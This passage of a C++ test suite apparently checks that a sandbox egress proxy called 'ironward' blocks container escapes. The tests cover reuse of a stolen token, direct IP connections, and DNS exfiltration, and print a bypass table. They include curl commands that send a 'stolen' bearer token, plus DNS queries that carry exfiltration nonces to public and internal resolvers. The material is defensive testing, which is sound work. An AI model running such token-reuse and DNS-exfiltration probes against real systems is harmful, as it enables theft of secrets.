  const std::string up_url = "https://" + std::string(kProviderHost) + ":" + ups + "/v1/chat";

  // ===== controls: the targets are live and reachable without ironward =====================
  {
    const std::string nonce_udp = "udp-ctl-" + RandomHex(6), nonce_dns = "dnsctl" + RandomHex(6);
    const std::string out = Bridge(
        "echo tcp-up=$(" + Probe("tcp " + std::string(kUpstreamIp) + " " + ups) + ") tcp-docker0=$(" +
        Probe("tcp " + docker0_ + " " + ups) + ") udp=$(" +
        Probe("udp " + std::string(kUpstreamIp) + " " + std::to_string(udp_->port()) + " " + nonce_udp) +
        ") dns=$(" + Probe("dns " + std::string(kUpstreamIp) + " " + nonce_dns) + ") ping=$(" +
        Probe("ping " + std::string(kUpstreamIp)) + ") raw=$(" + Probe("raw") + ")");
    Control("control: bridge container tcp upstream " + std::string(kUpstreamIp), "reached", Field(out, "tcp-up"),
            Field(out, "tcp-up") == "OPEN");
    Control("control: bridge container tcp docker0 " + docker0_, "reached", Field(out, "tcp-docker0"),
            Field(out, "tcp-docker0") == "OPEN");
    Control("control: bridge container udp upstream", "reached",
            Field(out, "udp") + (udp_->Saw(nonce_udp) ? ", sink got it" : ", sink saw nothing"),
            udp_->Saw(nonce_udp));
    Control("control: bridge container dns udp/53 upstream", "reached",
            Field(out, "dns") + (dns_->Saw(nonce_dns) ? ", sink got it" : ", sink saw nothing"),
            dns_->Saw(nonce_dns));
    Control("control: bridge container icmp echo upstream", "reached", Field(out, "ping"), Field(out, "ping") == "REPLY");
    Control("control: bridge container raw socket (default caps)", "opened", Field(out, "raw"),
            Field(out, "raw").rfind("OPENED", 0) == 0);
  }
  {
    const auto livez = doubletest::Http("http://127.0.0.1:" + std::to_string(metrics_port_) + "/livez");
    Control("control: host ironward /livez", "200", std::to_string(livez.status), livez.status == 200);
    const auto mgmt = doubletest::Http("http://127.0.0.1:" + std::to_string(mgmt_port_) + "/v1/reload",
                                       {.method = "POST"});
    Control("control: host proxy management /v1/reload (no key)", "401", std::to_string(mgmt.status),
            mgmt.status == 401);
    const auto health = doubletest::Http("http://127.0.0.1:" + std::to_string(proxy_metrics_port_) + "/healthz");
    Control("control: host proxy metrics /healthz", "200", std::to_string(health.status), health.status == 200);
  }
  FromContainer(sandbox_, "");
  FromWiredContainers();

  // ===== a proxy token used from outside the sandbox network ===============================
  // The product's guarantee (docs/escape.md): the proxy listens only on the sandbox network's
  // gateway and the firewall admits only sandboxes to it, so a stolen token is useless from another
  // container network; the host itself is trusted (it holds the secrets), but even there the token
  // is swapped only for the provider's hosts and the allowlist refuses everything else.
  const std::string proxy_url = "http://" + gateway_ + ":" + std::to_string(tunnel_port_);
  for (const std::string& target :
       {"https://" + std::string(kUpstreamIp) + ":" + ups + "/v1/chat", "https://" + std::string(kNotAllowlisted) + ":" + ups + "/"}) {
    const std::size_t before = upstream_->Requests().size();
    const auto r = doubletest::Http(target, {.proxy = proxy_url,
                                             .cainfo = state_ + "/ca.crt",
                                             .headers = {"Authorization: Bearer " + token_}});
    const auto reqs = upstream_->Requests();
    bool key_seen = false;
    for (std::size_t i = before; i < reqs.size(); ++i) key_seen = key_seen || reqs[i].find(secret_) != std::string::npos;
    Blocked("host: token via proxy to non-allowlisted " + target.substr(8, target.find(':', 8) - 8),
            (r.status != 0 ? "HTTP " + std::to_string(r.status) : "refused (curl: " + r.error + ")") +
                (key_seen ? ", upstream GOT the real key" : ", no key swapped") +
                (reqs.size() != before ? ", upstream reached" : ""),
            r.status / 100 != 2 && !key_seen && reqs.size() == before);
  }
  {
    const std::size_t before = upstream_->Requests().size();
    ::setenv("ESCAPE_STOLEN_TOKEN", token_.c_str(), 1);  // handed to docker run -e, never on a command line
    const std::string out = Bridge(
        "echo tcp=$(" + Probe("tcp " + gateway_ + " " + std::to_string(tunnel_port_)) +
            ") $(curl -sS -k -o /dev/null --max-time 6 -x " + proxy_url +
            " -w 'code=%{http_code}' -H \"Authorization: Bearer $ESCAPE_STOLEN_TOKEN\" " + Quote(up_url) +
            " 2>/dev/null)",
        "-e ESCAPE_STOLEN_TOKEN");
    ::unsetenv("ESCAPE_STOLEN_TOKEN");
    const auto reqs = upstream_->Requests();
    bool key_seen = false;
    for (std::size_t i = before; i < reqs.size(); ++i) key_seen = key_seen || reqs[i].find(secret_) != std::string::npos;
    Blocked("bridge container: reach the proxy " + gateway_ + ":" + std::to_string(tunnel_port_), Field(out, "tcp"),
            Field(out, "tcp").rfind("CLOSED", 0) == 0);
    Blocked("bridge container: stolen token -> allowlisted host",
            "HTTP " + Field(out, "code") + (key_seen ? ", upstream GOT the real key" : ", no key swapped"),
            !key_seen && Field(out, "code").rfind('2', 0) != 0);
  }

  // ===== the table =========================================================================
  std::size_t width = 4;
  for (const auto& r : rows_) width = std::max(width, r.name.size());
  int bypasses = 0, failed_controls = 0;
  std::ostringstream table;
  table << std::left << std::setw(static_cast<int>(width)) << "case" << " | " << std::setw(26) << "expected"
        << " | got\n"
        << std::string(width, '-') << "-+-" << std::string(26, '-') << "-+-" << std::string(40, '-') << "\n";
  for (const auto& r : rows_) {
    std::string got = Redact(r.got);
    if (!r.ok) got += r.control ? "   <-- CONTROL FAILED" : "   <-- BYPASS";
    table << std::setw(static_cast<int>(width)) << r.name << " | " << std::setw(26) << r.expected << " | " << got
          << "\n";
    if (!r.ok) (r.control ? failed_controls : bypasses) += 1;
  }
  const std::size_t cases = static_cast<std::size_t>(std::count_if(rows_.begin(), rows_.end(), [](const Row& r) {
    return !r.control;
  }));
  table << "cases: " << cases << ", controls: " << rows_.size() - cases << " (failed: " << failed_controls
        << ")\nbypasses: " << bypasses << "\n";
  std::cout << Redact(table.str()) << std::flush;
  EXPECT_EQ(bypasses, 0) << "escape attempts that were not blocked (see the table)";
  EXPECT_EQ(failed_controls, 0) << "a control failed: the cases above prove less than they claim";
  EXPECT_EQ(transcript_.find(secret_), std::string::npos) << "the secret appeared in an output from a container";
}


// ===== enforcement.routing: dns ================================================================
// The same confined sandbox with no proxy variables at all: its resolver is the proxy's DNS (the
// gateway, via Docker's embedded resolver) and the table's nat chain steers UDP 53, TCP 80 and 443
// to the proxy. Clients that ignore proxy variables (curl --noproxy '*', a raw getaddrinfo +
// connect) must reach the allowlisted upstream only through the proxy, with the token swapped;
// everything else must stay blocked, DNS exfiltration included. The upstream and a DNS sink listen
// on a host address (198.51.100.77:443, :80, 0.0.0.0:53): the host's own services on those ports,
// which the sandbox must never reach directly and which the host itself must still reach.
class EscapeDnsRoutingTest : public EscapeTest {
 protected:
  EscapeDnsRoutingTest() { routing_ = "dns"; }
  void SetUp() override {
    EscapeTest::SetUp();
    if (HasFatalFailure() || IsSkipped()) return;
    const std::string d = pki_.str();
    https443_ = std::make_unique<doubletest::Upstream>(d + "/up.crt", d + "/up.key", kUpstreamIp, 443);
    http80_ = std::make_unique<doubletest::Upstream>("", "", kUpstreamIp, 80);
    ASSERT_TRUE(https443_->ok()) << "port 443 on " << kUpstreamIp << " is taken";
    ASSERT_TRUE(http80_->ok()) << "port 80 on " << kUpstreamIp << " is taken";
  }
  /// Whether any request the two host listeners saw since `before443`/`before80` holds `needle`.
  bool Saw(std::size_t before443, std::size_t before80, const std::string& needle) {
    for (auto* u : {https443_.get(), http80_.get()}) {
      const auto reqs = u->Requests();
      for (std::size_t i = u == https443_.get() ? before443 : before80; i < reqs.size(); ++i) {
        if (reqs[i].find(needle) != std::string::npos) return true;
      }
    }
    return false;
  }
  std::unique_ptr<doubletest::Upstream> https443_, http80_;
};

TEST_F(EscapeDnsRoutingTest, ClientsThatIgnoreProxyVariablesGoThroughTheProxyAndNothingElseLeaves) {
  subject_ = sandbox_;
  const std::string no_vars = "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy ";
  // ----- controls ---------------------------------------------------------------------------
  {
    const std::string env_out = Exec("env");
    const bool vars = env_out.find("HTTPS_PROXY=") != std::string::npos || env_out.find("HTTP_PROXY=") != std::string::npos;
    Control("control: routing dns sets no proxy variables", "none", vars ? "set" : "none", !vars);
    const auto inspect = engine_->Inspect(sandbox_);
    const std::string dns = inspect.is_object() ? inspect["HostConfig"]["Dns"].dump() : "";
    Control("control: the sandbox's resolver is the proxy (HostConfig.Dns)", "[\"" + gateway_ + "\"]", dns,
            dns == "[\"" + gateway_ + "\"]");
  }
  {
    const std::string out = Trim(Exec(Probe("resolve " + std::string(kProviderHost))));
    Control("control: getaddrinfo of the allowlisted host answers the proxy", "ADDR:" + gateway_, out,
            out == "ADDR:" + gateway_);
  }
  {  // Sandbox-to-sandbox names still come from Docker's embedded resolver: a container wired by
     // `ironward wiring --format docker-args` (which must carry --dns) on the same network.
    const std::string iw = "env " + docker_host_ + " " + Quote(Env("IRONWARD_BIN", IRONWARD_BIN)) + " --state-dir " +
                           Quote(state_) + " wiring -f " + Quote(spec_);
    const CmdResult args = Sh(iw + " --format docker-args --out " + Quote(tmp_.str() + "/peer.args"));
    ASSERT_EQ(args.code, 0) << Redact(args.out);
    const std::string args_text = ReadFile(tmp_.str() + "/peer.args");
    Control("control: wiring docker-args carries --dns", "--dns=" + gateway_,
            args_text.find("--dns=" + gateway_ + "\n") != std::string::npos ? "present" : "ABSENT",
            args_text.find("--dns=" + gateway_ + "\n") != std::string::npos);
    const std::string peer = name_ + "-peer";
    const CmdResult run = Sh("env " + docker_host_ + " sh -c " +
                             Quote("eval \"docker run -d --name " + peer + " --label ironward.test.run=" + name_ +
                                   " $(tr '\\n' ' ' < " + tmp_.str() + "/peer.args) " +
                                   Env("IRONWARD_TEST_IMAGE", IRONWARD_TEST_IMAGE) + " sleep infinity\""));
    ASSERT_EQ(run.code, 0) << Redact(run.out);
    const std::string out = Trim(Exec(Probe("resolve " + peer)));
    const std::string prefix = gateway_.substr(0, gateway_.rfind('.') + 1);
    Control("control: another sandbox's name resolves (embedded DNS)", "ADDR:" + prefix + "x", out,
            out.rfind("ADDR:" + prefix, 0) == 0 && out != "ADDR:" + gateway_);
  }
  {  // curl ignoring proxy variables, HTTPS: the proxy terminates TLS by SNI and swaps the token.
    const std::size_t before = https443_->Requests().size();
    const std::string out = Trim(Exec(no_vars + "curl -sS --noproxy '*' --max-time 10 -H \"Authorization: Bearer $" +
                                      std::string(kTokenVar) + "\" https://" + kProviderHost +
                                      "/v1/chat; echo \" exit=$?\""));
    const auto reqs = https443_->Requests();
    const bool got_key = reqs.size() == before + 1 && reqs.back().find("Authorization: Bearer " + secret_) != std::string::npos &&
                         reqs.back().find(token_) == std::string::npos;
    Control("control: curl --noproxy '*' https://allowlisted -> proxy (SNI) -> upstream", "200, real key at upstream",
            (out.find("upstream-ok exit=0") != std::string::npos ? std::string("200") : Redact(out)) +
                (got_key ? ", real key at upstream" : ", upstream did NOT get the real key"),
            out.find("upstream-ok exit=0") != std::string::npos && got_key);
  }
  {  // A raw client: getaddrinfo + connect to port 80 + a hand-written request.
    const std::size_t before = http80_->Requests().size();
    const std::string out = Trim(Exec(no_vars + Probe("http " + std::string(kProviderHost) + " /v1/chat " + kTokenVar)));
    const auto reqs = http80_->Requests();
    const bool got_key = reqs.size() == before + 1 && reqs.back().find("Authorization: Bearer " + secret_) != std::string::npos &&
                         reqs.back().find(token_) == std::string::npos;
    Control("control: raw getaddrinfo + connect :80 -> proxy -> upstream", gateway_ + " HTTP:200, real key at upstream",
            out + (got_key ? ", real key at upstream" : ", upstream did NOT get the real key"),
            out == gateway_ + " HTTP:200" && got_key);
  }
  {  // The host's own listeners are untouched for the host itself (the nat chain matches the bridge only).
    const auto r = doubletest::Http("http://" + std::string(kUpstreamIp) + "/", {});
    Control("control: host reaches its own :80 on " + std::string(kUpstreamIp), "200", std::to_string(r.status),
            r.status == 200);
    const std::string nonce = "hostctl" + RandomHex(6);
    const CmdResult q = Sh(Quote(Env("ESCAPE_PROBE", ESCAPE_PROBE)) + " dns " + std::string(kUpstreamIp) + " " + nonce);
    Control("control: host's DNS query to its own :53 reaches it", "sink got it",
            Trim(q.out) + (dns_->Saw(nonce) ? ", sink got it" : ", sink saw nothing"), dns_->Saw(nonce));
  }

  {  // The operator's view: verify's dns-routing row and doctor's routing check on this live setup.
    const std::string iw = "env " + docker_host_ + " " + Quote(Env("IRONWARD_BIN", IRONWARD_BIN)) + " --state-dir " +
                           Quote(state_) + " ";
    const CmdResult verify = Sh(iw + "verify -f " + Quote(spec_) + " --no-record -o json");
    const auto v = nlohmann::json::parse(verify.out.substr(std::min(verify.out.find('{'), verify.out.size())), nullptr, false);
    std::string row = "no dns-routing row";
    bool row_pass = false;
    if (v.is_object() && v.contains("checks")) {
      for (const auto& c : v["checks"]) {
        if (c.value("check", "").rfind("dns-routing", 0) == 0) {
          row = c.value("got", "") + " (" + c.value("result", "") + ")";
          row_pass = c.value("result", "") == "pass";
        }
      }
    }
    Control("control: ironward verify dns-routing row", "resolves to the proxy, answered", row, row_pass);
    Control("control: ironward verify passes in dns mode", "exit 0", "exit " + std::to_string(verify.code) +
            (verify.code == 0 ? "" : ": " + Redact(Tail(verify.out, 600))), verify.code == 0);
    const CmdResult doctor = Sh(iw + "doctor -f " + Quote(spec_) + " -o json");
    const auto d = nlohmann::json::parse(doctor.out.substr(std::min(doctor.out.find('{'), doctor.out.size())), nullptr, false);
    std::string check = "no routing check";
    bool check_pass = false;
    if (d.is_object() && d.contains("checks")) {
      for (const auto& c : d["checks"]) {
        if (c.value("check", "") == "routing") {
          check = c.value("result", "") + ": " + c.value("detail", "");
          check_pass = c.value("result", "") == "pass";
        }
      }
    }
    Control("control: ironward doctor routing check", "pass", check, check_pass);
  }

  // ----- escape cases -----------------------------------------------------------------------
  {
    const std::size_t before443 = https443_->Requests().size(), before80 = http80_->Requests().size();
    const std::string out = Trim(Exec(no_vars + "curl -sS -o /dev/null --noproxy '*' --max-time 8 -w '%{http_code}' -H "
                                      "\"Authorization: Bearer $" + std::string(kTokenVar) + "\" https://" +
                                      kNotAllowlisted + "/ 2>/dev/null; echo \" exit=$?\""));
    const bool reached = https443_->Requests().size() != before443 || http80_->Requests().size() != before80;
    Blocked("dns mode: https to a non-allowlisted name", out + (reached ? ", upstream reached" : ", upstream saw nothing"),
            out.rfind('2', 0) != 0 && !reached);
  }
  for (const auto& [what, url] : std::vector<std::pair<std::string, std::string>>{
           {"hard-coded IP https :443 (no SNI)", "https://" + std::string(kUpstreamIp) + "/"},
           {"hard-coded IP http :80", "http://" + std::string(kUpstreamIp) + "/"},
           {"docker0 http :80", "http://" + docker0_ + "/"},
           {"gateway https :443", "https://" + gateway_ + "/"}}) {
    const std::size_t before443 = https443_->Requests().size(), before80 = http80_->Requests().size();
    const std::string out = Trim(Exec(no_vars + "curl -sS -k -o /dev/null --noproxy '*' --max-time 8 -w '%{http_code}' " +
                                      Quote(url) + " 2>/dev/null; echo \" exit=$?\""));
    const bool reached = https443_->Requests().size() != before443 || http80_->Requests().size() != before80;
    Blocked("dns mode: " + what, out + (reached ? ", host listener reached" : ", host listener saw nothing"),
            out.rfind('2', 0) != 0 && !reached);
  }
  const std::string ups = std::to_string(upstream_->port());
  TcpCase("dns mode: hard-coded IP, other port " + std::string(kUpstreamIp) + ":" + ups, kUpstreamIp, upstream_->port());
  TcpCase("dns mode: docker0, other port " + docker0_ + ":" + ups, docker0_, upstream_->port());
  TcpCase("dns mode: dns tcp/53 to " + std::string(kUpstreamIp) + " (not steered, dropped)", kUpstreamIp, 53);
  {  // DNS exfiltration through Docker's embedded resolver (getaddrinfo, and a query to 127.0.0.11).
    const std::string nonce = "exfil" + RandomHex(6);
    const std::string out = Trim(Exec(Probe("resolve " + nonce + ".escape.test")));
    Blocked("dns mode: exfiltration via getaddrinfo (embedded resolver)",
            out + (dns_->Saw(nonce) ? ", sink GOT the name" : ", sink saw nothing"),
            !dns_->Saw(nonce) && out == "ADDR:" + gateway_);
    const std::string nonce2 = "exfil" + RandomHex(6);
    const std::string out2 = Trim(Exec(Probe("dnsq 127.0.0.11 " + nonce2 + ".escape.test")));
    Blocked("dns mode: exfiltration via a query to 127.0.0.11",
            out2 + (dns_->Saw(nonce2) ? ", sink GOT the name" : ", sink saw nothing"),
            !dns_->Saw(nonce2) && out2 == "ANSWER:" + gateway_);
  }
  for (const auto& [label, ip] : std::vector<std::pair<std::string, std::string>>{
           {"host resolver " + std::string(kUpstreamIp), kUpstreamIp},
           {"docker0 " + docker0_, docker0_},
           {"public resolver 8.8.8.8", "8.8.8.8"},
           {"sandbox gateway " + gateway_, gateway_}}) {
    const std::string nonce = "exfil" + RandomHex(6);
    const std::string out = Trim(Exec(Probe("dnsq " + ip + " " + nonce + ".escape.test")));
    // DNATed to the proxy's DNS, which answers with its own address and asks nobody.
    Blocked("dns mode: dns query to " + label, out + (dns_->Saw(nonce) ? ", sink GOT the name" : ", sink saw nothing"),
            !dns_->Saw(nonce) && (out == "ANSWER:" + gateway_ || out == "NOREPLY"));
  }

  // ----- the table --------------------------------------------------------------------------
  int bypasses = 0, failed_controls = 0;
  std::ostringstream table;
  for (const auto& r : rows_) {
    std::string got = Redact(r.got);
    if (!r.ok) got += r.control ? "   <-- CONTROL FAILED" : "   <-- BYPASS";
    table << r.name << " | " << r.expected << " | " << got << "\n";
    if (!r.ok) (r.control ? failed_controls : bypasses) += 1;
  }
  table << "bypasses: " << bypasses << "\n";
  std::cout << Redact(table.str()) << std::flush;
  EXPECT_EQ(bypasses, 0) << "escape attempts that were not blocked (see the table)";
  EXPECT_EQ(failed_controls, 0) << "a control failed: the cases above prove less than they claim";
  EXPECT_EQ(transcript_.find(secret_), std::string::npos) << "the secret appeared in an output from a container";
}

}  // namespace
}  // namespace ironward::escape_test
